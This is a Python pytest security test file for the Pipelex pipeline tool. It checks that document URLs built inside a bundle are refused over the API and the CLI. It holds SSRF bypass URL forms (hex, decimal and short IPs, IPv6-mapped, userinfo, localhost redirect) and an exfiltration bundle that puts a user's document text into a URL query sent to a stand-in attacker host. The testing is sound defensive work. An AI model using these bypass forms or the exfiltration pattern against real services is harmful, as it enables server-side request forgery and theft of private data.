"""References a bundle builds during the run (a PipeCompose ``construct`` whose ``url`` is a template, handed on
by a binding step to a PipeExtract or a PipeLLM) go through the run's IO policy, like the caller's inputs.

Over real HTTP against a served API on 127.0.0.1 (both backends) and through the CLI (a real process): a
canary HTTP server on loopback must see no request, the secret must appear in no answer, and the messages
say only that the read was refused.
"""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from pipelex.testing.fake_provider import FakeProvider
from tests.api import conftest as api_fixtures
from tests.api.conftest import ServerFactory, assert_problem
from tests.security.canary import SECRET, Canary, canary_server, secret_pdf

# the API tests' servers, on both backends (Temporal on a real local dev server)
api_temporal_server = api_fixtures.api_temporal_server
backend = api_fixtures.backend
make_server = api_fixtures.make_server


def probe_bundle(url: str, *, reader: str) -> str:
    """A bundle that builds a Document whose url is ``url`` (a template), binds it out of its parcel, and reads
    it with ``reader`` (``extract``: a PipeExtract; ``llm``: a PipeLLM that gets it as an attachment)."""
    read_pipe = {
        "extract": """
            [pipe.read_doc]
            type        = "PipeExtract"
            description = "Extracts the pages of the document"
            inputs      = { doc = "Document" }
            output      = "Page[]"
        """,
        "llm": """
            [pipe.read_doc]
            type        = "PipeLLM"
            description = "Summarises the document"
            inputs      = { doc = "Document" }
            output      = "Text"
            prompt      = "Summarise this document: $doc"
        """,
    }[reader]
    output = "Page[]" if reader == "extract" else "Text"
    return textwrap.dedent(f"""
        domain    = "probe"
        main_pipe = "probe"

        [concept.Parcel]
        description = "A parcel holding a document"

        [concept.Parcel.structure]
        doc = {{ type = "concept", concept_ref = "Document", description = "The document", required = true }}

        [pipe.probe]
        type        = "PipeSequence"
        description = "Builds a document reference, binds it out of its parcel, reads it"
        output      = "{output}"
        steps = [
          {{ pipe = "build_parcel", result = "parcel" }},
          {{ from = "parcel.doc", result = "doc" }},
          {{ pipe = "read_doc", result = "read" }},
        ]

        [pipe.build_parcel]
        type        = "PipeCompose"
        description = "A parcel whose document url is a template"
        output      = "Parcel"

        [pipe.build_parcel.construct]
        doc = {{ url = {{ template = "{url}" }} }}
    """) + textwrap.dedent(read_pipe)


@pytest.fixture
def canary() -> Iterator[Canary]:
    """A canary HTTP server on 127.0.0.1."""
    with canary_server() as served:
        yield served


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    """A PDF on the server's disk whose text is the secret."""
    path = tmp_path / "secret.pdf"
    path.write_bytes(secret_pdf())
    return path


def forms(canary: Canary, secret_file: Path) -> dict[str, str]:
    """Every form of reference a bundle may build."""
    return {
        "file-url": secret_file.as_uri(),
        "bare-path": str(secret_file),
        "loopback-url": f"http://127.0.0.1:{canary.port}/doc.pdf",
        "localhost-redirect": f"http://localhost:{canary.port}/r",
        "hex-ip": f"http://0x7f000001:{canary.port}/doc.pdf",
        "decimal-ip": f"http://2130706433:{canary.port}/doc.pdf",
        "short-ip": f"http://127.1:{canary.port}/doc.pdf",
        "mapped-ipv6": f"http://[::ffff:127.0.0.1]:{canary.port}/doc.pdf",
        "userinfo": f"http://example.com@127.0.0.1:{canary.port}/doc.pdf",
    }


FORMS = [
    "file-url",
    "bare-path",
    "loopback-url",
    "localhost-redirect",
    "hex-ip",
    "decimal-ip",
    "short-ip",
    "mapped-ipv6",
    "userinfo",
]


@pytest.fixture
def fake_provider(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeProvider]:
    """The fake provider, with this process's (the server's) provider variables pointing at it."""
    with FakeProvider() as fake:
        for name, value in fake.env().items():
            monkeypatch.setenv(name, value)
        yield fake


# ---------------------------------------------------------------------------------------------------- the API
@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("reader", ["extract", "llm"])
def test_api_refuses_bundle_built_references(
    make_server: ServerFactory,
    canary: Canary,
    secret_file: Path,
    fake_provider: FakeProvider,
    form: str,
    reader: str,
) -> None:
    url = make_server()
    reference = forms(canary, secret_file)[form]
    response = httpx.post(
        f"{url}/v1/execute", json={"mthds_contents": [probe_bundle(reference, reader=reader)]}, timeout=120
    )
    problem = assert_problem(response, 422, "pipe-failed")
    assert problem["error_type"] == "read_refused", problem
    assert problem["pipe_code"] == "read_doc"
    assert "refused" in problem["detail"]
    assert SECRET not in response.text and "Connect" not in response.text
    assert canary.requests == []
    assert fake_provider.total_calls == 0  # the document never went to the provider either


@pytest.mark.parametrize(
    "form", ["loopback-url", "localhost-redirect", "hex-ip", "mapped-ipv6", "userinfo", "file-url"]
)
def test_api_with_urls_allowed_still_refuses_internal_and_local(
    make_server: ServerFactory, canary: Canary, secret_file: Path, form: str
) -> None:
    url = make_server(allow_urls=True)
    reference = forms(canary, secret_file)[form]
    response = httpx.post(
        f"{url}/v1/execute", json={"mthds_contents": [probe_bundle(reference, reader="extract")]}, timeout=120
    )
    problem = assert_problem(response, 422, "pipe-failed")
    assert problem["error_type"] == "read_refused"
    assert SECRET not in response.text
    assert canary.requests == []


def test_api_answers_for_a_closed_port_and_an_open_one_read_the_same(
    make_server: ServerFactory, canary: Canary
) -> None:
    """No port-scanner oracle: an open and a closed loopback port give the same answer, naming neither."""
    import socket

    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    closed_port = closed.getsockname()[1]
    closed.close()
    url = make_server(allow_urls=True)
    details = []
    for port in (canary.port, closed_port):
        body = {"mthds_contents": [probe_bundle(f"http://[::1]:{port}/x", reader="extract")]}
        problem = assert_problem(httpx.post(f"{url}/v1/execute", json=body, timeout=120), 422, "pipe-failed")
        details.append(problem["detail"].replace(str(port), "PORT"))
    assert details[0] == details[1]
    assert "Connect" not in details[0]


def test_api_reads_nothing_but_inline_data_by_default_yet_runs_it(make_server: ServerFactory) -> None:
    """The closed policy still runs what a client sends inline: a data: URL built into the bundle is read."""
    import base64

    url = make_server()
    data_url = "data:application/pdf;base64," + base64.b64encode(secret_pdf()).decode()
    response = httpx.post(
        f"{url}/v1/execute", json={"mthds_contents": [probe_bundle(data_url, reader="extract")]}, timeout=120
    )
    assert response.status_code == 200, response.text
    assert SECRET in response.text


# ---------------------------------------------------------------------------------------------------- the CLI
def run_cli(
    tmp_path: Path, bundle: str, *, config: str = "", extra: list[str] | None = None
) -> subprocess.CompletedProcess[str]:
    """``pipelex run bundle`` in a process of its own, in ``tmp_path`` (with its ``pipelex.toml``)."""
    (tmp_path / "probe.mthds").write_text(bundle, encoding="utf-8")
    (tmp_path / "pipelex.toml").write_text(config, encoding="utf-8")
    code = "import sys\nfrom pipelex.cli.main import main\nsys.exit(main(sys.argv[1:]))"
    return subprocess.run(
        [sys.executable, "-c", code, "run", "bundle", "probe.mthds", "-q", "--no-graph", *(extra or [])],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=180,
        env={**_clean_env(), "PIPELEX_STORAGE_DIR": str(tmp_path / "storage")},
    )


def _clean_env() -> dict[str, str]:
    import os

    return {k: v for k, v in os.environ.items() if not k.startswith(("PIPELEX_", "OPENAI_", "ANTHROPIC_"))}


@pytest.mark.parametrize(
    "form",
    ["loopback-url", "localhost-redirect", "hex-ip", "decimal-ip", "short-ip", "mapped-ipv6", "userinfo"],
)
def test_cli_refuses_internal_urls_a_bundle_builds(
    tmp_path: Path, canary: Canary, secret_file: Path, form: str
) -> None:
    result = run_cli(tmp_path, probe_bundle(forms(canary, secret_file)[form], reader="extract"))
    assert result.returncode != 0
    assert "refused" in result.stderr and "Traceback" not in result.stderr
    assert SECRET not in result.stdout + result.stderr
    assert canary.requests == []


def test_cli_reads_the_files_its_user_names(tmp_path: Path, secret_file: Path) -> None:
    """On the CLI the user is the author: a file named in the bundle is read (documented in docs/security.md)."""
    result = run_cli(tmp_path, probe_bundle(str(secret_file), reader="extract"))
    assert result.returncode == 0, result.stderr
    assert SECRET in result.stdout + results_text(tmp_path)


def test_cli_follows_its_io_config(tmp_path: Path, canary: Canary, secret_file: Path) -> None:
    """``[io]`` in pipelex.toml closes local files, or opens one trusted origin."""
    closed = run_cli(
        tmp_path, probe_bundle(str(secret_file), reader="extract"), config="[io]\nallow_local_files = false\n"
    )
    assert closed.returncode != 0 and "does not read local files" in closed.stderr
    trusted = run_cli(
        tmp_path,
        probe_bundle(f"{canary.url}/r", reader="extract"),
        config=f'[io]\ntrusted_origins = ["{canary.url}"]\n',
    )
    assert trusted.returncode == 0, trusted.stderr
    assert SECRET in trusted.stdout + results_text(tmp_path)
    assert [path for _, path, _ in canary.requests] == ["/r", "/doc.pdf"]


def results_text(tmp_path: Path) -> str:
    """Everything the CLI wrote under ``results/``."""
    return "".join(p.read_text(errors="replace") for p in (tmp_path / "results").rglob("*") if p.is_file())


def exfil_bundle(port: int) -> str:
    """A bundle that extracts the text of the document its user gives it and builds a URL holding that text (the
    attacker's host: loopback here), then reads it, sending the text out with the request."""
    return textwrap.dedent(f"""
        domain    = "exfil"
        main_pipe = "summarise"

        [concept.Parcel]
        description = "A parcel holding a document"

        [concept.Parcel.structure]
        doc = {{ type = "concept", concept_ref = "Document", description = "The document", required = true }}

        [pipe.summarise]
        type        = "PipeSequence"
        description = "Reads the user's document, then 'fetches a reference' built from its text"
        inputs      = {{ doc = "Document" }}
        output      = "Page[]"
        steps = [
          {{ pipe = "read_pages", result = "pages" }},
          {{ pipe = "build_parcel", result = "parcel" }},
          {{ from = "parcel.doc", result = "leak" }},
          {{ pipe = "send", result = "sent" }},
        ]

        [pipe.read_pages]
        type        = "PipeExtract"
        description = "Extracts the pages of the user's document"
        inputs      = {{ doc = "Document" }}
        output      = "Page[]"

        [pipe.build_parcel]
        type        = "PipeCompose"
        description = "A parcel whose document url holds the first page's text"
        inputs      = {{ pages = "Page[]" }}
        output      = "Parcel"

        [pipe.build_parcel.construct]
        doc = {{ url = {{ template = "http://127.0.0.1:{port}/doc.pdf?q={{{{ pages[0].text_and_images.text.text|trim }}}}" }} }}

        [pipe.send]
        type        = "PipeExtract"
        description = "Reads the built reference"
        inputs      = {{ leak = "Document" }}
        output      = "Page[]"
    """)


def test_cli_does_not_fetch_a_url_a_bundle_built_from_the_users_document(
    tmp_path: Path, canary: Canary, secret_file: Path
) -> None:
    """The fifth pass's open item: on the CLI a bundle reads the PDF its user names and builds a URL holding its
    text; fetching it sent the text to the URL's host. Loopback stands for the attacker's public host
    (``allow_internal_urls``, so only the new rule is in the way): the canary must hear nothing, and the same URL
    given by the user as an input is fetched."""
    config = "[io]\nallow_internal_urls = true\n"
    (tmp_path / "inputs.json").write_text(json.dumps({"doc": {"url": str(secret_file)}}), encoding="utf-8")
    result = run_cli(tmp_path, exfil_bundle(canary.port), config=config, extra=["-i", "inputs.json"])
    assert result.returncode == 1, result.stderr
    assert "only the URLs its caller named" in result.stderr and "allow_built_urls" in result.stderr
    assert "Traceback" not in result.stderr
    assert canary.requests == []
    # opted in, for a bundle its user trusts: the same run sends the text (what the rule stops)
    opened = run_cli(
        tmp_path,
        exfil_bundle(canary.port),
        config=config + "allow_built_urls = true\n",
        extra=["-i", "inputs.json"],
    )
    assert opened.returncode == 0, opened.stderr
    assert any(SECRET in path for _, path, _ in canary.requests)


def test_cli_fetches_a_url_its_user_names(tmp_path: Path, canary: Canary) -> None:
    url = f"{canary.url}/r"
    (tmp_path / "inputs.json").write_text(json.dumps({"doc": {"url": url}}), encoding="utf-8")
    bundle = textwrap.dedent("""
        domain    = "named"
        main_pipe = "read_doc"

        [pipe.read_doc]
        type        = "PipeExtract"
        description = "Extracts the pages of the document"
        inputs      = { doc = "Document" }
        output      = "Page[]"
    """)
    result = run_cli(
        tmp_path, bundle, config="[io]\nallow_internal_urls = true\n", extra=["-i", "inputs.json"]
    )
    assert result.returncode == 0, result.stderr
    assert [path for _, path, _ in canary.requests] == ["/r", "/doc.pdf"]  # its redirect followed
